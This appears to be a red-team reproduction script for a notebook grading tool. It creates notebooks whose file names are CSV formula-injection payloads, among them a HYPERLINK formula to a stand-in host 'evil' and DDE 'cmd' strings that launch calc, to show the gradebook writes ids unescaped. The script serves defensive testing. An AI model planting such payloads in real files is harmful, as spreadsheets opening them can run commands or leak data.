"""Reproduction: CSV formula injection through the submission id (file name).

A student names their notebook so that its id starts with '=', '+', '-' or '@'.
The gradebook writes the id verbatim in the first column; a spreadsheet
(Excel/LibreOffice) opening gradebook.csv evaluates it as a formula
(HYPERLINK exfiltration, DDE '=cmd|...' on old Excel).

usage: python redteam/csv_injection.py DIR   then
       python -m kmlteach grade DIR --out DIR.csv --jobs 1
"""

import json
import sys
from pathlib import Path

NB = {
    "cells": [
        {"cell_type": "code", "metadata": {}, "source": "x = 1", "outputs": [], "execution_count": None}
    ],
    "metadata": {
        "kmlteach": {"chapter": "01"},
        "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
    },
    "nbformat": 4,
    "nbformat_minor": 5,
}
out = Path(sys.argv[1])
out.mkdir(parents=True, exist_ok=True)
for name in ['=HYPERLINK("http:evil","click")', "@SUM(1+1)", "+1+2", "-3+cmd|' -c calc'!A0"]:
    (out / f"{name}.ipynb").write_text(json.dumps(NB))

# The id keeps '/', so a sub-folder gives a DDE payload with a slash:
# folder "=cmd|' " + file "C calc'!A0.ipynb" -> id "=cmd|' /C calc'!A0".
(out / "=cmd|' ").mkdir(exist_ok=True)
(out / "=cmd|' " / "C calc'!A0.ipynb").write_text(json.dumps(NB))
